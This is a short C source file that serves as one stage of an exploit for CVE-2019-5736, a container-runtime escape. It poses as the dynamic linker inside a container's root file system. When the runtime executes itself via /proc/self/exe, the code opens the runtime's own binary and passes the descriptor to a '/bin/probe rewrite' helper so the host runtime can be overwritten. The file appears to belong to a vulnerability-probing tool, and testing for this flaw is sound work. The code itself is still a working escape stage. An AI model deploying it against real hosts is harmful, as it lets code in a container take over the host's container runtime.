/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Stands in a container's root file system where the runtime's program expects its dynamic linker.
 * A container whose program is /proc/self/exe makes the runtime execute itself, and with it this:
 * it opens the runtime's own file and hands the descriptor to "probe rewrite" (CVE-2019-5736).
 * No libc start code: that would take the runtime's program headers for its own.
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

void _start(void);

void _start(void)
{
	static char *const argv[] = { (char *)"probe", (char *)"rewrite", NULL };
	static char *const envp[] = { NULL };

	syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY, 0);
	syscall(SYS_execve, "/bin/probe", argv, envp);
	syscall(SYS_exit_group, 97);
}
